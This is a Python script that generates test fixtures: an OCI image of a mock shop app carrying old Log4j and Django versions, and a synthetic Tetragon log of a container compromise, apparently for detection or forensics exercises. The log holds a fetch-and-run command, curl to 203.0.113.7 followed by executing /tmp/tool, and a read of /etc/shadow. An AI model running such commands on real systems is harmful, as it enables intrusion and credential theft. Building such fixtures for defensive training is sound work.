#!/usr/bin/env python3
"""Makes what is binary or long here: the layout `shop` of an image, and `events.jsonl`, a log of Tetragon.

Every run writes the same bytes. The digest of the image stands in pages, and in used.json.
"""

import base64
import gzip
import hashlib
import io
import json
import pathlib
import struct
import tarfile
import zipfile

HERE = pathlib.Path(__file__).parent
LAYOUT = HERE / "shop"
MADE = 1735689600  # 2025-01-01
SITE = "usr/local/lib/python3.11/site-packages/"

# A program of 64 bits that ends at once: exit(0).
ELF = (
    b"\x7fELF\x02\x01\x01" + bytes(9)
    + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 132, 132, 4096)
    + bytes.fromhex("b83c00000031ff0f05")
)
OS_RELEASE = (
    'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n'
    'VERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\n'
)
PACKAGES = [
    ("curl", "7.88.1-10", "command line tool for transferring data", ""),
    ("dash", "0.5.12-2", "POSIX-compliant shell", ""),
    ("libc6", "2.36-9+deb12u1", "GNU C Library: Shared libraries", "glibc"),
    ("openssl", "3.0.8-1", "Secure Sockets Layer toolkit", ""),
    ("python3.11", "3.11.2-6", "interactive high-level object-oriented language", ""),
]


def text(content, mode=0o644):
    return content.encode(), mode


def program():
    return ELF, 0o755


def link(to):
    return (to,), 0o777


def status():
    """The list of packages as dpkg keeps it."""
    records = []
    for name, version, description, source in PACKAGES:
        records.append(
            f"Package: {name}\nStatus: install ok installed\nPriority: optional\nSection: misc\n"
            "Maintainer: Debian\nArchitecture: amd64\n"
            + (f"Source: {source}\n" if source else "")
            + f"Version: {version}\nDescription: {description}\n\n"
        )
    return "".join(records)


def jar():
    """An archive that says which version of Log4j it would be."""
    files = {
        "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nImplementation-Title: Apache Log4j Core\n"
        "Implementation-Version: 2.14.1\n",
        "META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties":
        "version=2.14.1\ngroupId=org.apache.logging.log4j\nartifactId=log4j-core\n",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), content)
    return buffer.getvalue()


BASE = {
    "bin": link("usr/bin"),
    "lib": link("usr/lib"),
    "etc/debian_version": text("12.1\n"),
    "etc/os-release": text(OS_RELEASE),
    "etc/passwd": text("root:x:0:0:root:/root:/bin/sh\n"),
    "usr/bin/curl": program(),
    "usr/bin/dash": program(),
    "usr/bin/openssl": program(),
    "usr/bin/python3": link("python3.11"),
    "usr/bin/python3.11": program(),
    "usr/bin/sh": link("dash"),
    "usr/lib/x86_64-linux-gnu/libc.so.6": program(),
    "var/lib/dpkg/status": text(status()),
    "var/lib/dpkg/info/curl.list": text("/.\n/usr\n/usr/bin\n/usr/bin/curl\n"),
    "var/lib/dpkg/info/dash.list": text("/.\n/usr/bin/dash\n/usr/bin/sh\n"),
    "var/lib/dpkg/info/libc6:amd64.list": text("/.\n/lib/x86_64-linux-gnu/libc.so.6\n"),
    "var/lib/dpkg/info/openssl.list": text("/.\n/usr/bin/openssl\n"),
    "var/lib/dpkg/info/python3.11.list": text("/.\n/usr/bin/python3\n/usr/bin/python3.11\n"),
}
DJANGO = {
    SITE + "Django-2.2.dist-info/METADATA": text(
        "Metadata-Version: 2.1\nName: Django\nVersion: 2.2\nLicense: BSD\n"
    ),
    SITE + "Django-2.2.dist-info/RECORD": text(
        "Django-2.2.dist-info/METADATA,,\nDjango-2.2.dist-info/RECORD,,\ndjango/__init__.py,,\n"
    ),
    SITE + "django/__init__.py": text("VERSION = (2, 2, 0, 'final', 0)\n"),
}
LAYERS = [
    (BASE, "FROM debian:bookworm-slim"),
    ({"opt/shop/lib/log4j-core-2.14.1.jar": (jar(), 0o644)}, "COPY lib/ /opt/shop/lib/ # buildkit"),
    (DJANGO, "RUN pip install Django==2.2 # buildkit"),
    ({"srv/shop/manage.py": text("import django\n")}, "COPY manage.py /srv/shop/ # buildkit"),
]
COMMAND = ["python3", "/srv/shop/manage.py"]


def tar(files):
    buffer, folders = io.BytesIO(), set()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, (content, mode) in files.items():
            parts = name.split("/")[:-1]
            for count in range(1, len(parts) + 1):
                folder = "/".join(parts[:count])
                if folder not in folders:
                    folders.add(folder)
                    entry = tarfile.TarInfo(folder)
                    entry.type, entry.mode, entry.mtime = tarfile.DIRTYPE, 0o755, MADE
                    archive.addfile(entry)
            entry = tarfile.TarInfo(name)
            entry.mode, entry.mtime = mode, MADE
            if isinstance(content, tuple):
                entry.type, entry.linkname = tarfile.SYMTYPE, content[0]
                archive.addfile(entry)
            else:
                entry.size = len(content)
                archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


def compact(value):
    return json.dumps(value, separators=(",", ":")).encode()


def put(content, kind):
    """Stores a blob; its descriptor."""
    digest = hashlib.sha256(content).hexdigest()
    (LAYOUT / "blobs/sha256").mkdir(parents=True, exist_ok=True)
    (LAYOUT / "blobs/sha256" / digest).write_bytes(content)
    return {
        "mediaType": f"application/vnd.oci.image.{kind}",
        "digest": f"sha256:{digest}",
        "size": len(content),
    }


def image():
    """Writes the layout; the digest of its image."""
    made = "2025-01-01T00:00:00Z"
    layers, diff_ids, history = [], [], []
    for files, instruction in LAYERS:
        content = tar(files)
        diff_ids.append("sha256:" + hashlib.sha256(content).hexdigest())
        layers.append(put(gzip.compress(content, 9, mtime=0), "layer.v1.tar+gzip"))
        history.append({"created": made, "created_by": instruction})
    command = json.dumps(COMMAND, separators=(",", ":"))
    history.append({"created": made, "created_by": f"CMD {command}", "empty_layer": True})
    config = {
        "architecture": "amd64",
        "os": "linux",
        "created": made,
        "config": {
            "Env": ["PATH=/usr/local/bin:/usr/bin:/bin"],
            "Cmd": COMMAND,
            "ExposedPorts": {"8000/tcp": {}},
        },
        "rootfs": {"type": "layers", "diff_ids": diff_ids},
        "history": history,
    }
    manifest = put(
        compact({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": put(compact(config), "config.v1+json"),
            "layers": layers,
        }),
        "manifest.v1+json",
    )
    named = {**manifest, "annotations": {"org.opencontainers.image.ref.name": "1.8"}}
    index = compact({"schemaVersion": 2, "manifests": [named]})
    (LAYOUT / "index.json").write_bytes(index + b"\n")
    (LAYOUT / "oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}\n')
    return manifest["digest"]


def events(digest):
    """A shop that is broken into: what Tetragon tells of it."""
    pod = {
        "namespace": "shop",
        "name": "web-7d9c",
        "container": {
            "id": "containerd://" + "4b" * 32,
            "name": "web",
            "image": {
                "id": "registry.example/shop/web@" + digest,
                "name": "registry.example/shop/web:1.8",
            },
            "start_time": "2026-01-02T02:59:00Z",
        },
        "workload": "web",
        "workload_kind": "Deployment",
    }
    lines = []

    def process(pid, binary, arguments, parent, second):
        made = {
            "exec_id": base64.b64encode(f"node-1:{second}:{pid}".encode()).decode(),
            "pid": pid,
            "uid": 0,
            "cwd": "/srv/shop",
            "binary": binary,
            "arguments": arguments,
            "flags": "execve clone",
            "start_time": f"2026-01-02T03:00:{second:02d}.000000001Z",
            "auid": 4294967295,
            "pod": pod,
            "docker": ("4b" * 32)[:31],
            "tid": pid,
        }
        if parent:
            made["parent_exec_id"] = parent["exec_id"]
        return made

    def tell(kind, of, parent, second, milliseconds, **more):
        event = {"process": of, **({"parent": parent} if parent else {}), **more}
        time = f"2026-01-02T03:00:{second:02d}.{milliseconds:03d}Z"
        lines.append(compact({kind: event, "node_name": "node-1", "time": time}).decode())

    def opened(of, parent, second, milliseconds, path, mask):
        arguments = [{"file_arg": {"path": path}}, {"int_arg": mask}]
        tell("process_kprobe", of, parent, second, milliseconds,
             function_name="security_file_permission", args=arguments, **{"return": {"int_arg": 0}})

    web = process(700, "/usr/bin/python3.11", "/srv/shop/manage.py", None, 0)
    tell("process_exec", web, None, 0, 1)
    opened(web, None, 0, 20, "/" + SITE + "django/__init__.py", 4)
    shell = process(812, "/usr/bin/dash", '-c "curl -so /tmp/tool http://203.0.113.7/t; /tmp/tool"', web, 5)
    tell("process_exec", shell, web, 5, 1)
    curl = process(813, "/usr/bin/curl", "-so /tmp/tool http://203.0.113.7/t", shell, 5)
    tell("process_exec", curl, shell, 5, 10)
    peer = {
        "family": "AF_INET",
        "type": "SOCK_STREAM",
        "protocol": "IPPROTO_TCP",
        "saddr": "10.0.0.9",
        "daddr": "203.0.113.7",
        "sport": 40112,
        "dport": 80,
        "state": "TCP_SYN_SENT",
    }
    tell("process_kprobe", curl, shell, 5, 30, function_name="tcp_connect", args=[{"sock_arg": peer}])
    opened(curl, shell, 5, 90, "/tmp/tool", 2)
    tool = process(814, "/tmp/tool", "", shell, 5)
    tell("process_exec", tool, shell, 5, 120)
    opened(tool, shell, 5, 130, "/etc/shadow", 4)
    (HERE / "events.jsonl").write_text("\n".join(lines) + "\n")


made = image()
events(made)
print(made)
